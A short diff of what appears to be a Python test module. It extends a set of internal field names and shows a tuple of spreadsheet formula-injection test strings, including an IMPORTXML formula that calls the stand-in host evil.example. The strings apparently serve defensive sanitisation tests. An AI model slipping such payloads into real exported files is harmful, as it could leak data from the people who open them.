@@ -33,7 +33,7 @@ FORMULAS = (
     "－1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\xa0=1+1", '=IMPORTXML("http://evil.example")', "%0A=1+1\n", "=1+1\n",
 )  # fmt: skip
 #: Texts that are names of ours and lead to others of our records.
-OURS = frozenset({"id", "campaign", "campaigns", "model"})
+OURS = frozenset({"id", "campaign", "campaigns", "model", "unit", "key", "parent"})
 
 
 def every_vector(shared: Callable[[str], Path]) -> tuple[str, ...]:
